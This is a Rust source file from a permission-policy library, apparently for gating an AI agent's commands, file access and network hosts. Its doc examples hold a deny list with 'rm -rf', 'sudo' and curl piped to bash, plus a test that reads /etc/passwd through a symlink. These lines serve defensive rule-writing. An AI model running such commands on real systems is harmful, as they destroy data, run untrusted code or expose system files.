//! Matchers of bare rulesets, and groups of them.

mod group;

pub use group::{Compilation, ReadOnlyGit, SafeNpm};

use crate::condition::{Command, Condition};
use crate::judging::Judging;
use crate::normalise::Kind;
use crate::pattern::Purpose;
use crate::word::Tri;
use std::ops::Deref;
use std::path::Path;

/// Describes operations. Matchers answer yes, no or maybe about everything that an operation would do.
///
/// Constructors are functions of this type; what narrows a matcher further is chained: see [`Narrow`].
///
/// ```
/// use sayso_policy::{Matcher, Operation, Outcome, Rule, Ruleset};
///
/// let ruleset = Ruleset::new(vec![Rule::new(
///     Matcher::or(vec![
///         Matcher::command("rm").with_flag("-rf"),
///         Matcher::command("sudo"),
///         Matcher::command("curl").piped_to_shell(),
///     ]),
///     Outcome::Deny,
/// )]);
/// assert_eq!(ruleset.evaluate(&Operation::execute("rm --force x --recursive")), Outcome::Deny);
/// assert_eq!(ruleset.evaluate(&Operation::execute("curl http://x.example | bash -s")), Outcome::Deny);
/// assert_eq!(ruleset.evaluate(&Operation::execute("rm x")), Outcome::Unknown);
/// ```
#[derive(Clone, Debug)]
pub struct Matcher {
    narrow: Narrow,
}

/// What may be chained on a [`Matcher`], which gives a narrower one.
///
/// A type of its own because `within_directory` is both: `Matcher::within_directory(dir)` makes a matcher, and
/// `matcher.within_directory(dir)` narrows one.
#[derive(Clone, Debug)]
pub struct Narrow {
    condition: Condition,
}

impl Deref for Matcher {
    type Target = Narrow;

    fn deref(&self) -> &Narrow {
        &self.narrow
    }
}

impl Matcher {
    fn of(condition: Condition) -> Self {
        Self { narrow: Narrow { condition } }
    }

    /// Commands of this program, by name or absolute path.
    #[must_use]
    pub fn command(program: &str) -> Self {
        Self::of(Condition::Command(Command::new(program)))
    }

    /// Every operation that runs commands or code, whatever it does: what cannot be seen through too.
    #[must_use]
    pub fn any_execute() -> Self {
        Self::kind(Kind::Execute)
    }

    /// Operations of this kind.
    #[must_use]
    pub fn kind(kind: Kind) -> Self {
        Self::of(Condition::Kind(kind))
    }

    /// Calls of this tool: a name, an alias or a pattern (`mcp:github/get_*`).
    #[must_use]
    pub fn tool(pattern: &str) -> Self {
        Self::of(Condition::tool(pattern))
    }

    /// Reads of paths that match this pattern of the policy language (`./src/**`).
    #[must_use]
    pub fn read(pattern: &str) -> Self {
        Self::of(Condition::path(&[sayso_shell::Verb::Read], pattern))
    }

    /// Changes of such paths; an edit reads what it changes, and that is part of it.
    #[must_use]
    pub fn edit(pattern: &str) -> Self {
        Self::of(Condition::path(&[sayso_shell::Verb::Write], pattern))
    }

    /// Removals of such paths.
    #[must_use]
    pub fn delete(pattern: &str) -> Self {
        Self::of(Condition::path(&[sayso_shell::Verb::Delete], pattern))
    }

    /// Whatever is done to such paths.
    #[must_use]
    pub fn path(pattern: &str) -> Self {
        use sayso_shell::Verb;
        Self::of(Condition::path(&[Verb::Read, Verb::Write, Verb::Delete], pattern))
    }

    /// Connections to this host (`docs.rs`, `*.example.org`).
    #[must_use]
    pub fn fetch(domain: &str) -> Self {
        Self::of(Condition::host(domain))
    }

    /// Operations that stay in this directory: see [`Narrow::within_directory`].
    #[must_use]
    pub fn within_directory(directory: impl AsRef<Path>) -> Self {
        Self::of(Condition::InDirectory(directory.as_ref().to_owned()))
    }

    /// What all of these match.
    #[must_use]
    pub fn and(matchers: Vec<Self>) -> Self {
        Self::of(Condition::All(matchers.into_iter().map(|matcher| matcher.narrow.condition).collect()))
    }

    /// What one of these matches.
    #[must_use]
    pub fn or(matchers: Vec<Self>) -> Self {
        Self::of(Condition::Any(matchers.into_iter().map(|matcher| matcher.narrow.condition).collect()))
    }

    /// What this does not match. Maybe stays maybe.
    #[must_use]
    #[expect(clippy::should_implement_trait, reason = "a constructor like `and` and `or`, not an operator")]
    pub fn not(matcher: Self) -> Self {
        Self::of(Condition::Not(Box::new(matcher.narrow.condition)))
    }

    pub(crate) fn matches(&self, judging: &Judging<'_>, index: usize, purpose: Purpose) -> Tri {
        self.narrow.condition.holds(judging, index, purpose)
    }

    /// Whether what it matches is bound to a directory.
    pub(crate) fn is_bound(&self) -> bool {
        self.narrow.condition.is_bound()
    }

    pub(crate) fn names(&self, judging: &Judging<'_>, index: usize, purpose: Purpose) -> bool {
        self.narrow.condition.names(judging, index, purpose)
    }
}

impl Narrow {
    /// Only with this subcommand; several words are one subcommand of several words (`"remote add"`). Said twice, either.
    #[must_use]
    pub fn with_subcommand(&self, subcommand: &str) -> Matcher {
        self.with_subcommands([subcommand])
    }

    /// Only with one of these subcommands.
    #[must_use]
    pub fn with_subcommands<S: AsRef<str>>(&self, subcommands: impl IntoIterator<Item = S>) -> Matcher {
        self.narrowed(|command| command.with_subcommands(subcommands))
    }

    /// Only with this flag, in any spelling and place: `--force` is also `-f`, and `+ref` of `git push`; `-rf` is both.
    /// Said twice, both.
    #[must_use]
    pub fn with_flag(&self, flag: &str) -> Matcher {
        self.narrowed(|command| command.with_flag(flag))
    }

    /// Only where a later program of the same pipeline is a shell.
    #[must_use]
    pub fn piped_to_shell(&self) -> Matcher {
        Matcher::of(Condition::All(vec![self.condition.clone(), Condition::PipedToShell]))
    }

    /// Only in this directory: the working directory and every path that is named, with links followed. Relative
    /// directories are meant in the workspace. Connections and programs nobody knows are never within one.
    ///
    /// ```
    /// use sayso_policy::shell::{MemoryFiles, NoEnvironment};
    /// use sayso_policy::{Facts, Matcher, Operation, Outcome, Rule, Ruleset, ToolCall};
    ///
    /// let mut files = MemoryFiles::new();
    /// files.folder("/p/src").link("/p/out", "/etc");
    /// let facts = Facts { files: &files, env: &NoEnvironment };
    /// let judge = |command: &str| {
    ///     let mut call = ToolCall::command(command);
    ///     call.cwd = Some("/p".into());
    ///     let rule = Rule::new(Matcher::command("cat").within_directory("/p"), Outcome::Allow);
    ///     Ruleset::new(vec![rule]).evaluate_with(&Operation::new(call, facts), facts)
    /// };
    /// assert_eq!(judge("cat src/main.rs"), Outcome::Allow);
    /// assert_eq!(judge("cat out/passwd"), Outcome::Unknown);
    /// assert_eq!(judge("cat ../q"), Outcome::Unknown);
    /// ```
    #[must_use]
    pub fn within_directory(&self, directory: impl AsRef<Path>) -> Matcher {
        let within = Condition::InDirectory(directory.as_ref().to_owned());
        Matcher::of(Condition::All(vec![self.condition.clone(), within]))
    }

    /// Narrows the command that this matcher is about; a matcher about no one command is narrowed by one about any.
    fn narrowed(&self, narrow: impl FnOnce(Command) -> Command) -> Matcher {
        Matcher::of(match &self.condition {
            Condition::Command(command) => Condition::Command(narrow(command.clone())),
            other => Condition::All(vec![other.clone(), Condition::Command(narrow(Command::new("*")))]),
        })
    }
}
